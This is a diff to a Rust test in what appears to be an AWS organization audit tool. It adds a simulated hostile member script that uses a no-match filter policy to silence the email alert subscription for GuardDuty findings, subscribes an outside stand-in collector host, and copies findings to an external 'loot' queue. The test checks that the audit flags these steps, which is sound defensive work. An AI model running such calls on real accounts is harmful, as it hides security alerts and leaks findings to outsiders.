@@ -192,13 +192,17 @@ fn a_member_that_silences_or_copies_its_findings_fails_the_audit() {
     rollout(&emulator);
     let hostile = member(2);
     let topic = format!("arn:aws:sns:eu-west-1:{hostile}:guardduty-finding");
-    // Through the public API, as the member's own script would: a subscription to an outside
-    // host, and a second target on the findings rule pointing at a queue outside the organization.
+    // Through the public API, as the member's own script would: a filter policy that silences
+    // the planned subscription, a subscription to an outside host, and a second target on the
+    // findings rule pointing at a queue outside the organization.
     emulator.boto3_as(
         &hostile,
         &format!(
             r#"
-client("sns", "eu-west-1").subscribe(TopicArn="{topic}", Protocol="https", Endpoint="https://collector.example.net/in")
+sns = client("sns", "eu-west-1")
+planned = next(s for s in sns.list_subscriptions_by_topic(TopicArn="{topic}")["Subscriptions"] if s["Protocol"] == "email")
+sns.set_subscription_attributes(SubscriptionArn=planned["SubscriptionArn"], AttributeName="FilterPolicy", AttributeValue='{{"never": ["matches"]}}')
+sns.subscribe(TopicArn="{topic}", Protocol="https", Endpoint="https://collector.example.net/in")
 client("events", "eu-west-1").put_targets(Rule="guardduty-finding", Targets=[{{"Id": "copy", "Arn": "arn:aws:sqs:eu-west-1:999999999999:loot"}}])
 "#
         ),
@@ -215,10 +219,10 @@ client("events", "eu-west-1").put_targets(Rule="guardduty-finding", Targets=[{{"
     assert_eq!(
         failed,
         [
-            ("OG.Wiring.Subscriptions", "https:https://collector.example.net/in subscribed"),
+            ("OG.Wiring.Subscriptions", r#"filter policy {"never": ["matches"]}; https:https://collector.example.net/in subscribed"#),
             ("OG.Wiring.Target/guardduty-finding", "also copy -> arn:aws:sqs:eu-west-1:999999999999:loot"),
         ],
-        "exactly the two ways out, in {hostile}/eu-west-1"
+        "exactly the silenced subscription and the two ways out, in {hostile}/eu-west-1"
     );
     assert!(report["results"].as_array().unwrap().iter().filter(|r| r["verdict"] == "FAIL").all(|r| r["account"] == hostile.as_str() && r["region"] == "eu-west-1"));
 }
